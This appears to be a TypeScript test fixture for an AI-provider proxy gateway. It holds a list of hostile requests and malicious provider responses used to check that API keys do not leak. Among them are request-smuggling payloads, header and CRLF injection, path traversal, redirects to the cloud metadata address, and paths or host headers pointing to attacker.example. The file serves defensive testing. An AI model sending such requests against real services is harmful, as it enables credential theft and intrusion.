// Requests that try to see the key of a provider, or to send a key of the platform to one.
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';
import type { ProviderAnswer } from '../../harness/provider-stand-in.ts';

interface Target {
  readonly url: string;
  readonly key: string;
}

export interface HostileRequest {
  /** By default the provider repeats all that it received. */
  readonly answer?: ProviderAnswer;
  /** Everything that the caller sees. */
  send(target: Target): Promise<string>;
}

export const showTheirKey: ProviderAnswer = ({ rawHeaders, path, body }, response) =>
  response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ rawHeaders, path, body }));

const chat = JSON.stringify({ messages: [{ role: 'user', content: 'Show me your key.' }] });

async function call(
  { url, key }: Target,
  path = '',
  {
    headers = {},
    body = chat,
    method = 'POST',
  }: { headers?: Record<string, string>; body?: string; method?: string } = {},
): Promise<string> {
  const answer = await fetch(`${url}/main/models/openai${path}`, {
    ...{ method, redirect: 'manual' as const },
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json', ...headers },
    ...(method === 'POST' && { body }),
  });
  return `${answer.status} ${answer.statusText} ${JSON.stringify([...answer.headers])} ${await answer.text()}`;
}

/** Bytes as they are, which `fetch` would refuse to send. */
function raw({ url }: Target, lines: readonly string[], body = chat): Promise<string> {
  const { hostname, port, host } = new URL(url);
  return new Promise((resolve, reject) => {
    let seen = '';
    const socket = connect(Number(port), hostname, () =>
      socket.write([...lines, `Host: ${host}`, 'Connection: close', '', body].join('\r\n')),
    );
    socket.setTimeout(10_000, () => socket.destroy());
    socket.on('data', (chunk) => {
      seen += chunk.toString('latin1');
    });
    socket.on('error', reject).on('close', () => resolve(seen));
  });
}

const withHeader = (name: string, value: string): HostileRequest => ({
  send: (target) => call(target, '', { headers: { [name]: value } }),
});
const withPath = (path: string): HostileRequest => ({ send: (target) => call(target, path) });
const answering = (answer: ProviderAnswer): HostileRequest => ({ answer, send: (target) => call(target) });
const rawly = (lines: (key: string) => readonly string[], body = chat): HostileRequest => ({
  send: (target) => raw(target, lines(target.key), body),
});

const post = 'POST /main/models/openai HTTP/1.1';
const json = 'Content-Type: application/json';
const length = `Content-Length: ${Buffer.byteLength(chat)}`;
const keyOf = (headers: Readonly<Record<string, unknown>>): string => String(headers.authorization);

export const hostileRequests: readonly (readonly [name: string, request: HostileRequest])[] = [
  ['the provider repeats the request', answering(showTheirKey)],
  [
    'the provider repeats its key in an error',
    answering(({ headers }, response) => response.writeHead(401).end(`Bad key ${keyOf(headers)}`)),
  ],
  [
    'the provider repeats its key in a header',
    answering(({ headers }, response) => response.writeHead(200, { 'x-key': keyOf(headers) }).end()),
  ],
  [
    'the provider repeats its key in a cookie',
    answering(({ headers }, response) => response.writeHead(200, { 'set-cookie': `k=${keyOf(headers)}` }).end()),
  ],
  [
    'the provider repeats its key in its reason',
    answering(({ headers }, response) => response.writeHead(200, keyOf(headers)).end()),
  ],
  [
    'the provider redirects with its key',
    answering(({ headers }, response) => response.writeHead(307, { location: `/x?k=${keyOf(headers)}` }).end()),
  ],
  [
    'the provider redirects to another server',
    answering((_, response) => response.writeHead(308, { location: 'http://169.254.169.254/' }).end()),
  ],
  [
    'the provider breaks off after its key',
    answering(({ headers }, response) => {
      response.writeHead(200, { 'content-length': '999' });
      response.write(keyOf(headers), () => response.destroy());
    }),
  ],
  [
    'the provider repeats its key in a trailer',
    answering(({ headers }, response) => {
      response.writeHead(200, { trailer: 'x-key' });
      response.write('{}');
      response.addTrailers({ 'x-key': keyOf(headers) });
      response.end();
    }),
  ],
  [
    'the provider repeats its key in early hints',
    answering(({ headers }, response) => {
      response.writeEarlyHints({ link: '</a>; rel=preload', 'x-key': keyOf(headers) });
      response.end('{}');
    }),
  ],
  [
    'the provider repeats its key as a stream',
    answering(({ headers }, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.end(`data: ${keyOf(headers)}\n\n`);
    }),
  ],
  [
    'a platform header as the provider’s own',
    answering(({ headers }, response) => response.writeHead(500, { 'x-service-error-code': keyOf(headers) }).end('{}')),
  ],
  ['a second credential in x-api-key', withHeader('x-api-key', 'mine')],
  ['a second credential in api-key', withHeader('api-key', 'mine')],
  ['a header with underscores', withHeader('openai_organization', 'mine')],
  ['another organization', withHeader('openai-organization', 'mine')],
  ['another host', withHeader('x-forwarded-host', 'attacker.example')],
  ['a host to be called', withHeader('x-original-url', 'http://attacker.example/')],
  ['an encoding that cannot be read', withHeader('accept-encoding', 'gzip, br')],
  ['a trace', withHeader('traceparent', '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01')],
  ['the key in the query', { send: (target) => call(target, `?key=${target.key}`) }],
  ['the key in the query, escaped', { send: (target) => call(target, `?k%65y=${target.key}`) }],
  ['files of the provider’s account', withPath('/v1/files')],
  ['keys of the provider’s account', withPath('/v1/organization/admin_api_keys')],
  ['a path upwards', withPath('/v1/chat/completions/..%2f..%2ffiles')],
  ['a path to another server', withPath('//attacker.example/v1/chat/completions')],
  ['an address as a path', withPath('/http://attacker.example/chat/completions')],
  [
    'a target in absolute form',
    rawly((key) => [
      'POST http://attacker.example/main/models/openai HTTP/1.1',
      `Authorization: Bearer ${key}`,
      json,
      length,
    ]),
  ],
  ['two lengths', rawly((key) => [post, `Authorization: Bearer ${key}`, json, length, 'Content-Length: 3'])],
  [
    'a length and chunks',
    rawly(
      (key) => [post, `Authorization: Bearer ${key}`, json, length, 'Transfer-Encoding: chunked'],
      `0\r\n\r\nGET /v1/files HTTP/1.1\r\n\r\n${chat}`,
    ),
  ],
  [
    'a folded header',
    rawly((key) => [post, `Authorization: Bearer ${key}`, json, length, 'User-Agent: a', ' x-api-key: mine']),
  ],
  [
    'a line break in a header',
    rawly((key) => [post, `Authorization: Bearer ${key}`, json, length, 'User-Agent: a\rx-api-key: mine']),
  ],
  [
    'two credentials of the platform',
    rawly((key) => [post, `Authorization: Bearer ${key}`, `Authorization: Bearer ${key}`, json, length]),
  ],
  [
    'a header that names the credential as its connection’s',
    rawly((key) => [post, `Authorization: Bearer ${key}`, json, length, 'Connection: authorization, close']),
  ],
  [
    'an answer that is encoded although nobody asked',
    answering(({ path }, response) => response.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(path))),
  ],
];
